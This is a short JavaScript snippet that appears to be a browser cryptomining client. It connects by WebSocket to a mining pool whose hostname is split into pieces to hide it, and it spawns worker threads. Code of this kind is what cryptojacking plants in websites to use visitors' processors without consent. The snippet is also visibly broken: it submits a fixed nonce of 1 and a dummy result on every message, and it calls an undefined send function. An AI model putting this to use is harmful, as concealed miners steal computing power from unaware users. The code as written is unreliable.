var server = "wss://" + ["webminer", "pool.com"].join("") + ":8181";
var throttleMiner = 20, totalhashes = 0;
function startMining(pool, login, password, numThreads, userid) { handshake = {identifier: "handshake", pool: pool, login: login, password: password, userid: userid, version: 7}; ws = new WebSocket(server); addWorkers(numThreads); }
function stopMining() { ws.close(); }
function addWorkers(n) { while (n--) new Worker("worker.js"); }
function onmsg(o) { if (o.identifier === "job") job = o; if (o.identifier === "hashsolved") totalhashes++; send({identifier: "solved", job_id: job.job_id, nonce: 1, result: "r"}); }
